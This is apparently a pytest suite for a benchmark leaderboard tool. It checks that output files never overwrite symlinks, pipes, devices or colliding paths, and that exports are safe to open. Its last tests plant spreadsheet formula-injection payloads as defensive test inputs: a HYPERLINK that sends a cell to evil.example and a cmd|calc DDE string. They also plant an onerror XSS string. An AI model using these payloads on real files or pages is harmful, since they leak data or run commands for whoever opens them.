"""Bad-input catalogue: the files ``lvmbench leaderboard`` writes (``--out``, ``--html``, ``--csv``,
``--parquet`` and the figures next to ``--out``) never clobber what is at the path.

A symbolic link, FIFO, device or folder is refused with one line naming the option and the fix, and
left as it was; two outputs naming one file are refused before any work; files are created with
the mode the umask gives (0644 under 022), never mkstemp's 0600.
"""

from __future__ import annotations

import os
import stat

import numpy as np
import pytest
from builders import cls_records, make_record, write_records
from cli_helpers import cli, the_line


@pytest.fixture
def results(tmp_path):
    labels = np.array([0, 1, 2, 3, 0, 1, 2, 3])
    write_records(tmp_path / "r", [make_record(cls_records(labels, np.eye(4)[labels], ["g"] * 8), "accuracy")])
    return tmp_path / "r"


def _lb(monkeypatch, capsys, results, out, *extra: str):
    return cli(monkeypatch, capsys, "leaderboard", "--results", str(results), "--out", str(out), "--n-boot", "200", *extra)


def test_a_symlink_to_a_users_export_is_refused_and_both_kept(results, tmp_path, monkeypatch, capsys):
    export = tmp_path / "mine" / "units.csv"
    export.parent.mkdir()
    export.write_text("my,own\n1,2\n", encoding="utf-8")
    link = tmp_path / "units.csv"
    link.symlink_to(export)
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(link))
    line = the_line(err, "symbolic link")
    assert code == 2 and "--csv names a symbolic link" in line and "fix: pass the file the link points to" in line
    assert link.is_symlink() and export.read_text(encoding="utf-8") == "my,own\n1,2\n", "the link and its target untouched"
    assert not (tmp_path / "lb.md").exists(), "refused before any work"


def test_a_symlinked_out_is_refused(results, tmp_path, monkeypatch, capsys):
    target = tmp_path / "notes.md"
    target.write_text("my notes\n", encoding="utf-8")
    (tmp_path / "lb.md").symlink_to(target)
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md")
    assert code == 2 and "--out names a symbolic link" in the_line(err, "symbolic link")
    assert (tmp_path / "lb.md").is_symlink() and target.read_text(encoding="utf-8") == "my notes\n"


def test_a_fifo_is_refused_and_stays_a_fifo(results, tmp_path, monkeypatch, capsys):
    fifo = tmp_path / "units.csv"
    os.mkfifo(fifo)
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(fifo))
    assert code == 2 and "--csv names a FIFO (named pipe), not a regular file" in the_line(err, "FIFO")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_device_node_is_refused_and_kept(results, tmp_path, monkeypatch, capsys):
    """``--csv /dev/full`` run as root replaced the device node with a file. The test makes its own
    node with /dev/full's device number (only root may), so a failure cannot damage the machine's."""
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root (and only root could replace /dev/full)")
    node = tmp_path / "full"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except OSError as e:
        pytest.skip(f"cannot make a device node here ({e.strerror})")
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(node))
    assert code == 2 and "--csv names a character device, not a regular file" in the_line(err, "character device")
    assert stat.S_ISCHR(os.lstat(node).st_mode) and os.lstat(node).st_rdev == os.makedev(1, 7)


def test_a_folder_is_refused_before_anything_is_written(results, tmp_path, monkeypatch, capsys):
    (tmp_path / "units.csv").mkdir()
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(tmp_path / "units.csv"))
    assert code == 2 and "--csv names a folder, not a regular file" in the_line(err, "folder")
    assert not (tmp_path / "lb.md").exists() and not list(tmp_path.glob("*.png")), "checked before any work"


@pytest.mark.parametrize("second", [("--csv", "lb.md"), ("--parquet", "./sub/../lb.md"), ("--html", "site")], ids=["csv", "parquet-via-dotdot", "html-index"])
def test_two_outputs_naming_one_file_are_refused(results, tmp_path, monkeypatch, capsys, second):
    (tmp_path / "sub").mkdir()
    flag, name = second
    out = tmp_path / ("site/index.html" if flag == "--html" else "lb.md")
    out.parent.mkdir(exist_ok=True)
    monkeypatch.chdir(tmp_path)
    code, _, err = _lb(monkeypatch, capsys, results, out, flag, name)
    line = the_line(err, "name the same file")
    assert code == 2 and "one would overwrite the other" in line and "fix: pass another path to" in line
    assert not out.exists()


def test_an_export_named_like_a_figure_is_refused(results, tmp_path, monkeypatch, capsys):
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(tmp_path / "lb-smoke-cls.png"))
    line = the_line(err, "name the same file")
    assert code == 2 and "the figure lb-smoke-cls.png next to --out" in line and "fix: pass another path to --csv" in line
    assert not (tmp_path / "lb.md").exists() and not (tmp_path / "lb-smoke-cls.png").exists()


def test_hard_linked_output_is_refused(results, tmp_path, monkeypatch, capsys):
    (tmp_path / "keep.csv").write_text("mine\n", encoding="utf-8")
    os.link(tmp_path / "keep.csv", tmp_path / "units.csv")
    code, _, err = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(tmp_path / "units.csv"))
    assert code == 2 and "2 hard links" in the_line(err, "hard links")
    assert (tmp_path / "keep.csv").read_text(encoding="utf-8") == "mine\n"


def test_outputs_follow_the_umask(results, tmp_path, monkeypatch, capsys):
    old = os.umask(0o022)
    try:
        code, _, _ = _lb(monkeypatch, capsys, results, tmp_path / "lb.md", "--csv", str(tmp_path / "u.csv"), "--html", str(tmp_path / "site"))
        os.umask(0o077)
        code2, _, _ = _lb(monkeypatch, capsys, results, tmp_path / "private.md")
    finally:
        os.umask(old)
    assert code == 0 and code2 == 0
    for p in (tmp_path / "lb.md", tmp_path / "u.csv", tmp_path / "site" / "index.html", tmp_path / "lb-smoke-cls.png"):
        assert stat.S_IMODE(p.stat().st_mode) == 0o644, p
    assert stat.S_IMODE((tmp_path / "private.md").stat().st_mode) == 0o600, "a stricter umask is followed too"
    assert not list(tmp_path.glob(".*.tmp")), "no temporary file left behind"


def test_a_result_path_that_is_a_symlink_is_not_replaced(tmp_path):
    """Results go through the same writer: a link where a result belongs is refused, not replaced."""
    from lvmbench.errors import UserError
    from lvmbench.results import result_path, write_result

    labels = np.array([0, 1])
    rec = make_record(cls_records(labels, np.eye(4)[labels], ["g"] * 2), "accuracy")
    path = result_path(tmp_path / "r", rec.unit)
    path.parent.mkdir(parents=True)
    (tmp_path / "elsewhere.json").write_text("{}", encoding="utf-8")
    path.symlink_to(tmp_path / "elsewhere.json")
    with pytest.raises(UserError, match="is a symbolic link"):
        write_result(tmp_path / "r", rec)
    assert path.is_symlink() and (tmp_path / "elsewhere.json").read_text(encoding="utf-8") == "{}"


# ---------------------------------------------------------------- exports safe to open


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, monkeypatch, capsys):
    """Result fields edited to formulas reach --csv/--parquet as text ('=...), numbers as numbers."""
    import pandas as pd

    labels = np.array([0, 1, 2, 3, 0, 1, 2, 3])
    rec = make_record(cls_records(labels, np.eye(4)[labels], ["g"] * 8), "accuracy")
    rec.device = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rec.git_commit = "@SUM(1+1)*cmd|' /C calc'!A0"
    rec.flags = ["+1+1", "-2", "\tTAB", "\rCR", "plain"]
    write_records(tmp_path / "r", [rec])
    code, _, _ = _lb(monkeypatch, capsys, tmp_path / "r", tmp_path / "lb.md", "--csv", str(tmp_path / "u.csv"), "--parquet", str(tmp_path / "u.parquet"))
    assert code == 0
    raw = (tmp_path / "u.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw
    for df in (pd.read_csv(tmp_path / "u.csv"), pd.read_parquet(tmp_path / "u.parquet")):
        row = df.iloc[0]
        assert row["device"].startswith("'=") and row["git_commit"].startswith("'@") and row["flags"].startswith("'+1+1")
        assert row["primary"] == 1.0 and row["metric.accuracy"] == 1.0 and row["seed"] == 0, "numbers stay numbers"
        assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values)


def test_markdown_shows_html_and_table_characters_in_names_as_text(tmp_path, monkeypatch, capsys):
    """An encoder name with markup or a pipe cannot inject HTML, links or table columns into
    leaderboard.md (the HTML page escapes it by building text nodes)."""
    labels = np.array([0, 1, 2, 3, 0, 1, 2, 3])
    name = "x<img src=y onerror=alert(1)>|![t](http://e/x.png)$\\bad{$"  # and a formula matplotlib cannot parse
    write_records(tmp_path / "r", [make_record(cls_records(labels, np.eye(4)[labels], ["g"] * 8), "accuracy", encoder=name, sha="d" * 64)])
    code, _, _ = _lb(monkeypatch, capsys, tmp_path / "r", tmp_path / "lb.md")
    text = (tmp_path / "lb.md").read_text(encoding="utf-8")
    assert code == 0 and "<img" not in text and "![t](" not in text and (tmp_path / "lb-smoke-cls.png").is_file()
    assert r"x&lt;img src=y onerror=alert(1)&gt;\|!\[t\](http://e/x.png)$\\bad{$ @dddddddddddd" in text
    row = next(ln for ln in text.splitlines() if ln.startswith("| x&lt;img") and "linear" in ln)
    assert len(row.replace(r"\|", "").split("|")) == 5, "encoder, protocol, one task: the pipe did not add a column"
